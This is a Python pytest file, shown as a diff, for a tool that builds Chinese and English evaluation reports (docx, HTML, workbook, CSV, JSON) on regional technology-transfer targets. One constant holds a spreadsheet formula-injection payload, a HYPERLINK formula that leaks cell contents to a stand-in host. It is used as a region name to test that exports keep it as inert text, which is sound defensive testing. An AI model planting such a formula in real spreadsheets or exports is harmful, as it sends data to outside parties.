@@ -1,0 +1,294 @@
+"""The report pack read back: 评估报告.docx, report.html, the workbook, the CSV, a clean output folder.
+
+Packs are built once per module (no notebooks, a few figures at low resolution).
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from docx import Document
+from docx.oxml.ns import qn
+from openpyxl import load_workbook
+
+from analysis import config, vocab
+from analysis.app import content, figures, report
+from analysis.cli import build_parser, main
+from analysis.io import dataset
+from analysis.model import text
+
+CJK = re.compile(r"[\u3400-\u9fff]")
+EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+DOC_FIGURES = ["scorecard", "fan_charts", "sector_trends"]
+N_TARGETS = 21
+
+
+def _build(tmp: Path, name: str, **kw) -> report.PackResult:
+    mp = pytest.MonkeyPatch()
+    mp.setenv("ANALYSIS_PROCESSED_DIR", str(tmp / f"processed_{name}"))
+    try:
+        kw.setdefault("figures_only", DOC_FIGURES)
+        return report.build_pack(out=tmp / name, formats=("png",), dpi=40, notebooks=False, progress=False, **kw)
+    finally:
+        mp.undo()
+
+
+@pytest.fixture(scope="module")
+def packs(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("packs")
+    # three regions, one of them named by a formula (it must stay text everywhere)
+    obs = dataset.load_observations()
+    other = obs.assign(region="白银区", value=(obs["value"] * 1.1).where(obs["unit"] != "%", obs["value"] * 0.9))
+    evil = obs.assign(region=EVIL)
+    multi = tmp / "three_regions.csv"
+    pd.concat([obs, other, evil])[["region", "indicator_id", "year", "value", "unit"]].to_csv(multi, index=False)
+    # a stale pack in the zh folder: other data, a notebooks page, an old figure, and a user's own file
+    stale = tmp / "zh"
+    (stale / "reports").mkdir(parents=True)
+    (stale / "figures").mkdir(parents=True)
+    (stale / "reports" / "notebooks.html").write_text("OLD", encoding="utf-8")
+    (stale / "reports" / "report.html").write_text("OLD", encoding="utf-8")
+    (stale / "figures" / "99_old_figure_zh.png").write_bytes(b"OLD")
+    (stale / "reports" / "my_notes.txt").write_text("mine", encoding="utf-8")
+    out = {
+        "zh": _build(tmp, "zh", lang="zh"),
+        "zh_again": _build(tmp, "zh_again", lang="zh"),
+        "en": _build(tmp, "en", lang="en"),
+        "multi": _build(tmp, "multi", lang="zh", data=multi, figures_only=["scorecard"]),
+        "own_sectors": _build(tmp, "own_sectors", lang="zh", data=multi, figures_only=["scorecard", "sector_trends"],
+                              sectors=config.sector_panel_path()),
+    }
+    return tmp, out
+
+
+def _file(packs, name, filename) -> Path:
+    tmp, _ = packs
+    return tmp / name / "reports" / filename
+
+
+def _target_tables(doc):
+    """Tables of the docx whose header is the target table's."""
+    return [tb for tb in doc.tables if tb.rows[0].cells[-1].text in ("状态", "Status") and len(tb.columns) == 7]
+
+
+# ------------------------------------------------------------------------------------- docx
+def test_docx_structure_chinese_text_and_page_setup(packs):
+    doc = Document(_file(packs, "zh", "评估报告.docx"))
+    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
+    for h in ("一、总体情况", "二、分项目标完成情况", "三、重点产业", "四、问题与建议", "附：方法与数据来源"):
+        assert h in headings
+    assert doc.paragraphs[0].text == "平川区推进落实白银市省级科技成果转移转化示范区建设实施方案目标评估报告"
+    body = "\n".join(p.text for p in doc.paragraphs)
+    assert "生成日期：" in body and "数据来源：" in body and "数据截至2019年" in body
+    assert "本报告使用示例数据（合成），非官方统计" in body
+    # one paragraph per target, from target_sentence
+    assert body.count("。判定：") == N_TARGETS
+    tables = _target_tables(doc)
+    assert len(tables) == 1 and len(tables[0].rows) == 1 + N_TARGETS
+    assert [c.text for c in tables[0].rows[0].cells] == ["规划目标", "任务", "责任单位", "最新值", "完成率或预测（80%区间）",
+                                                          "达标概率", "状态"]
+    assert tables[0].rows[1].cells[0].text == "省级技术转移示范机构1个"  # the plan's words
+    assert all(CJK.search(r.cells[-1].text) for r in tables[0].rows[1:])
+    assert "nan" not in " ".join(c.text.lower() for r in tables[0].rows for c in r.cells)
+    # figures embedded (PNG), A4 portrait, page number field, East Asian font
+    assert len(doc.inline_shapes) >= 2
+    sec = doc.sections[0]
+    assert (round(sec.page_width.mm), round(sec.page_height.mm)) == (210, 297)  # A4 (stored in twips)
+    assert "PAGE" in "".join(el.text or "" for el in sec.footer._element.iter(qn("w:instrText")))
+    fonts = doc.styles["Normal"].element.rPr.find(qn("w:rFonts"))
+    assert fonts.get(qn("w:eastAsia")) == "宋体"
+    assert doc.styles["Heading 1"].element.rPr.find(qn("w:rFonts")).get(qn("w:eastAsia")) == "黑体"
+
+
+def test_docx_sector_part_names_the_focus_sectors(packs):
+    doc = Document(_file(packs, "zh", "评估报告.docx"))
+    body = "\n".join(p.text for p in doc.paragraphs)
+    for name in ("陶瓷建材", "锂电池正极材料", "生物酶制剂"):
+        assert name in body
+    assert "产业数据为示例数据" in body
+
+
+def test_docx_in_english(packs):
+    doc = Document(_file(packs, "en", "evaluation_report.docx"))
+    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
+    assert headings[:2] == ["1. Overview", "2. Target by target"]
+    assert "Annex: methods and data sources" in headings
+    table = _target_tables(doc)[0]
+    assert [c.text for c in table.rows[0].cells][-1] == "Status"
+    assert not any(CJK.search(c.text) for r in table.rows for c in r.cells[3:])
+
+
+def test_docx_several_regions_a_part_each_and_an_overview(packs):
+    doc = Document(_file(packs, "multi", "评估报告.docx"))
+    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
+    assert "各地区比较" in headings
+    for region in ("平川区", "白银区", EVIL):
+        assert region in headings
+    tables = _target_tables(doc)
+    assert len(tables) == 3 and sum(len(t.rows) - 1 for t in tables) == 3 * N_TARGETS
+    overview = next(t for t in doc.tables if t.rows[0].cells[0].text == "地区")
+    assert sorted(r.cells[0].text for r in overview.rows[1:]) == sorted(["平川区", "白银区", EVIL])
+    assert [r.cells[-1].text for r in overview.rows[1:]] == ["21", "21", "21"]
+
+
+def test_own_data_leaves_out_the_illustrative_sectors_and_says_so(packs):
+    tmp, out = packs
+    doc = Document(_file(packs, "multi", "评估报告.docx"))
+    body = "\n".join(p.text for p in doc.paragraphs)
+    assert "未附示例产业数据的产业比较" in body and "陶瓷建材" not in body
+    assert not list((tmp / "multi" / "figures").glob("1[0-9]_*"))
+    assert "产业比较" not in load_workbook(_file(packs, "multi", "scorecard.xlsx")).sheetnames
+    assert any("--sectors" in w for w in out["multi"].warnings)
+    # the same data with a sector panel given: the part is back
+    doc = Document(_file(packs, "own_sectors", "评估报告.docx"))
+    assert "陶瓷建材" in "\n".join(p.text for p in doc.paragraphs)
+    assert list((tmp / "own_sectors" / "figures").glob("11_sector_trends_zh.png"))
+
+
+# ------------------------------------------------------------------------------------- HTML
+def test_html_report_is_clean_offline_and_has_contents(packs):
+    page = _file(packs, "zh", "report.html").read_text(encoding="utf-8")
+    assert "NaN" not in page and "nan<" not in page and "dtype" not in page
+    assert "<script" not in page.lower() and "@import" not in page and "<link" not in page.lower()
+    assert not re.search(r'src="(https?:)?//', page)
+    assert '<nav class="toc">' in page
+    anchors = re.findall(r'<nav class="toc">.*?</nav>', page, re.S)[0]
+    targets = re.findall(r'href="#([^"]+)"', anchors)
+    assert len(targets) >= 5 and all(f'id="{a}"' in page for a in targets)
+    assert "@page { size: A4" in page and "@media print" in page
+    assert page.count("。判定：") == N_TARGETS and "“—”表示不适用或无数据" in page
+    for src in re.findall(r'<img src="([^"]+)"', page):
+        assert (_file(packs, "zh", "report.html").parent / src).resolve().is_file(), src
+
+
+def test_html_and_workbook_are_byte_identical_on_a_rerun(packs):
+    for name in ("report.html", "scorecard.xlsx", "scorecard.csv"):
+        assert _file(packs, "zh", name).read_bytes() == _file(packs, "zh_again", name).read_bytes(), name
+
+
+def test_html_several_regions_keeps_a_formula_name_as_text(packs):
+    page = _file(packs, "multi", "report.html").read_text(encoding="utf-8")
+    assert "=HYPERLINK(&quot;http://x.example/?leak=&quot;&amp;A1,&quot;click&quot;)" in page
+    assert '<a href="http://x.example' not in page
+
+
+# --------------------------------------------------------------------------------- workbook
+def test_workbook_sheets_print_setup_formats_and_colours(packs):
+    wb = load_workbook(_file(packs, "zh", "scorecard.xlsx"))
+    assert wb.sheetnames == ["汇总", "目标评估", "产业比较", "来源与方法"]
+    summary = wb["汇总"]
+    col_a = [c.value for c in summary["A"]]
+    assert col_a[0].startswith("平川区") and "数据截至" in col_a and "结论" in col_a
+    counts = {r[0].value: r[1].value for r in summary.iter_rows() if r[0].value in
+              {text.status_label(s, "zh") for s in content.STATUS_ORDER}}
+    assert sum(counts.values()) == N_TARGETS and all(isinstance(v, int) for v in counts.values())
+
+    ws = wb["目标评估"]
+    assert "示例数据" in ws["A2"].value and ws["A1"].value.startswith("平川区")
+    headers = [c.value for c in ws[3]]
+    assert headers[:3] == ["指标", "规划目标", "任务"] and headers[-1] == "指标代码"
+    assert {"规划条款", "责任单位", "完成率", "状态", "说明"} <= set(headers)
+    assert not any(h and re.search(r"[a-z_]{4,}", h) for h in headers)
+    rows = {ws.cell(row=r, column=len(headers)).value: r for r in range(4, 4 + N_TARGETS)}
+    col = {h: j + 1 for j, h in enumerate(headers)}
+    r = rows["high_tech_enterprises"]
+    assert ws.cell(row=r, column=col["比较"]).value == "≥"
+    assert ws.cell(row=r, column=col["目标值"]).value == 18 and ws.cell(row=r, column=col["目标值"]).number_format == "#,##0"
+    assert ws.cell(row=r, column=col["按期达标概率"]).number_format == "0%"
+    assert ws.cell(row=r, column=col["任务"]).value == "任务2"
+    assert ws.cell(row=r, column=col["说明"]).value.startswith("高新技术企业（目标：2020年达到18家以上）")
+    assert ws.cell(row=r, column=col["预测模型"]).value and not re.search("[a-z]", ws.cell(row=r, column=col["预测模型"]).value)
+    r = rows["tech_contract_turnover"]
+    assert ws.cell(row=r, column=col["目标值"]).number_format == "#,##0.00"
+    status_j = col["状态"]
+    for rr in range(4, 4 + N_TARGETS):
+        shown = ws.cell(row=rr, column=status_j).value
+        key = next(s for s in content.STATUS_ORDER if text.status_label(s, "zh") == shown)
+        assert ws.cell(row=rr, column=status_j).fill.start_color.rgb[-6:] == content.status_color(key).lstrip("#").upper()
+    ps = ws.page_setup
+    assert ps.orientation == "landscape" and int(ps.paperSize) == 9 and int(ps.fitToWidth) == 1
+    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
+    assert ws.print_title_rows == "$3:$3"
+    assert ws.freeze_panes is not None
+
+
+def test_workbook_in_english(packs):
+    wb = load_workbook(_file(packs, "en", "scorecard.xlsx"))
+    assert wb.sheetnames == ["Summary", "Targets", "Sectors", "Sources and methods"]
+    headers = [c.value for c in wb["Targets"][3]]
+    assert headers[-1] == "Indicator id" and not any(CJK.search(str(h)) for h in headers)
+    notes = [wb["Targets"].cell(row=r, column=headers.index("Note") + 1).value for r in range(4, 4 + N_TARGETS)]
+    assert all(n.endswith(".") and "Status: " in n and "判定" not in n for n in notes)
+    for name in ("Unit", "Status", "Stage", "Forecast model", "Task"):
+        values = [wb["Targets"].cell(row=r, column=headers.index(name) + 1).value for r in range(4, 4 + N_TARGETS)]
+        assert not any(CJK.search(str(v)) for v in values), name
+
+
+def test_no_formula_from_input_text_anywhere(packs):
+    wb = load_workbook(_file(packs, "multi", "scorecard.xlsx"))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == EVIL and c.data_type == "s" for c in cells)
+    csv = _file(packs, "multi", "scorecard.csv").read_text(encoding="utf-8-sig")
+    assert "\n\"'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and "\n\"=HYPERLINK" not in csv
+
+
+def test_json_keeps_every_column_and_adds_the_sentence(packs):
+    js = json.loads(_file(packs, "en", "scorecard.json").read_text(encoding="utf-8"))
+    rec = js["scorecard"][0]
+    assert {"indicator_id", "status", "status_name", "prob_meet", "sentence"} <= set(rec)
+    assert js["meta"]["illustrative"] is True and js["meta"]["regions"] == ["平川区"]
+
+
+# --------------------------------------------------------------------------- output folder
+def test_stale_files_of_an_earlier_pack_are_removed(packs):
+    tmp, out = packs
+    reports_dir = tmp / "zh" / "reports"
+    assert not (reports_dir / "notebooks.html").exists()
+    assert not (tmp / "zh" / "figures" / "99_old_figure_zh.png").exists()
+    assert (reports_dir / "report.html").read_text(encoding="utf-8") != "OLD"
+    assert (reports_dir / "my_notes.txt").read_text(encoding="utf-8") == "mine"  # not the pack's: kept
+    assert not [p for p in tmp.joinpath("zh").iterdir() if p.name.startswith(".")]  # no staging left
+    listed = {p.name for p in out["zh"].files}
+    assert {"评估报告.docx", "report.html", "scorecard.xlsx", "index.html"} <= listed
+    assert all(p.exists() for p in out["zh"].files)
+
+
+def test_index_links_the_report_and_the_figures(packs):
+    index = _file(packs, "zh", "index.html")
+    page = index.read_text(encoding="utf-8")
+    links = set(re.findall(r'(?:href|src)="([^"]+)"', page))
+    assert "评估报告.docx" in links and "report.html" in links
+    assert all((index.parent / link).resolve().exists() for link in links)
+
+
+def test_cli_has_the_sector_options():
+    args = build_parser().parse_args(["report", "--sectors", "panel.csv", "--sample-sectors"])
+    assert args.sectors == "panel.csv" and args.sample_sectors is True
+
+
+def test_cli_missing_sector_file_exits_1(tmp_path, capsys):
+    assert main(["report", "--sectors", str(tmp_path / "nope.csv"), "--out", str(tmp_path / "o"),
+                 "--no-notebooks"]) == 1
+    assert "nope.csv" in capsys.readouterr().err
+    assert vocab.ILLUSTRATIVE_STAMP  # the module's vocabulary is importable alongside
+    assert figures.get("scorecard")
+
+
+def test_staging_folders_of_a_killed_run_are_removed(tmp_path):
+    import os
+    import time
+
+    old = tmp_path / ".report-staging-dead"
+    old.mkdir()
+    (old / "report.html").write_text("half", encoding="utf-8")
+    young = tmp_path / ".report-staging-running"
+    young.mkdir()
+    past = time.time() - report.STALE_AFTER - 60
+    os.utime(old, (past, past))
+    report._remove_stale_staging(tmp_path)
+    assert not old.exists() and young.exists()
